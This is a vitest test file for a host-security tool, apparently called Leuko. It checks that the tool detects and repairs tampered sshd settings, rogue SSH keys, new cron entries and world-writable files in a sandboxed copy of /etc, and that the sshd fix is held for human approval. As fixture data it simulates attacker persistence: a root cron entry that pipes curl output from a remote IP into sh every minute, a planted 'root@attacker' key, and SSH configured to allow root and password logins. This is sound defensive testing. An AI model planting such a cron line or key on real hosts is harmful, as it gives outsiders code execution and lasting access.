import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { waitFor } from '../support/cli.js';
import { createHealLab } from '../support/heal.js';

/**
 * Posture: risky sshd settings, unknown ssh keys, new cron entries and world-writable files
 * are detected; in heal mode the safe fixes are applied, the sshd fix waits for a person and
 * is applied once approved. Files stand in for /etc so the host is never touched.
 */
describe('heal: posture checks', () => {
  const lab = createHealLab('heal-posture', ({ dir, www }) => [
    'policy: { mode: heal }',
    'protect:',
    `  paths: [${www}]`,
    '  posture:',
    `    sshd_config: ${path.join(dir, 'etc/sshd_config')}`,
    `    passwd: ${path.join(dir, 'etc/passwd')}`,
    `    cron_dirs: [${path.join(dir, 'etc/cron.d')}]`,
    `    systemd_dirs: [${path.join(dir, 'etc/systemd')}]`,
    '    interval: 1',
  ]);
  afterAll(async () => {
    await lab.stop();
    lab.cleanup();
  });

  it('finds and fixes posture problems, the sshd one only after approval', async () => {
    const etc = path.join(lab.dir, 'etc');
    const home = path.join(lab.dir, 'home/alice');
    mkdirSync(path.join(etc, 'cron.d'), { recursive: true });
    mkdirSync(path.join(etc, 'systemd'), { recursive: true });
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    writeFileSync(path.join(etc, 'passwd'), `root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::${home}:/bin/bash\n`);
    writeFileSync(path.join(etc, 'sshd_config'), 'Port 22\nPasswordAuthentication no\n');
    writeFileSync(path.join(home, '.ssh/authorized_keys'), 'ssh-ed25519 AAAAgood alice@laptop\n');
    writeFileSync(path.join(etc, 'cron.d/backup'), '0 3 * * * root /usr/local/bin/backup\n');
    writeFileSync(path.join(lab.www, 'index.html'), 'ok\n');
    expect(lab.cli('baseline').status).toBe(0);

    // The attacker's persistence, while Leuko is down.
    writeFileSync(path.join(etc, 'sshd_config'), 'Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n');
    writeFileSync(
      path.join(home, '.ssh/authorized_keys'),
      'ssh-ed25519 AAAAgood alice@laptop\nssh-rsa AAAAevil root@attacker\n',
    );
    writeFileSync(path.join(etc, 'cron.d/update'), '* * * * * root curl -s http://203.0.113.9/x | sh\n');
    await lab.start();
    // Made while running: a world-writable file inside the protected path, accepted (so
    // integrity keeps it) — posture still flags and fixes its mode.
    chmodSync(path.join(lab.www, 'index.html'), 0o666);
    lab.cli('baseline', 'accept', path.join(lab.www, 'index.html'));

    await waitFor(
      'safe fixes applied',
      () =>
        !existsSync(path.join(etc, 'cron.d/update')) &&
        !readFileSync(path.join(home, '.ssh/authorized_keys'), 'utf8').includes('evil') &&
        (statSync(path.join(lab.www, 'index.html')).mode & 0o002) === 0
          ? true
          : undefined,
      60_000,
    );
    expect(readFileSync(path.join(home, '.ssh/authorized_keys'), 'utf8')).toContain('AAAAgood');
    expect(existsSync(path.join(etc, 'cron.d/backup'))).toBe(true);
    // The sshd fix can lock people out: it waits for approval.
    expect(readFileSync(path.join(etc, 'sshd_config'), 'utf8')).toContain('PermitRootLogin yes');
    const pending = await waitFor('sshd approval', () => {
      const list = JSON.parse(lab.cli('approvals', '--json').stdout || '[]') as {
        id: string;
        decision?: { value: string };
      }[];
      return list.length > 0 ? list : undefined;
    });
    expect(JSON.stringify(pending)).toContain('sshd:');
    const approval = pending[0]?.id ?? '';
    expect(lab.cli('approve', approval).status).toBe(0);
    await waitFor(
      'sshd hardened',
      () =>
        readFileSync(path.join(etc, 'sshd_config'), 'utf8').includes('PermitRootLogin prohibit-password')
          ? true
          : undefined,
      60_000,
    );
    const text = readFileSync(path.join(etc, 'sshd_config'), 'utf8');
    expect(text).toContain('PasswordAuthentication no');
    expect(text).not.toMatch(/^PermitRootLogin yes/m);
  }, 240_000);
});
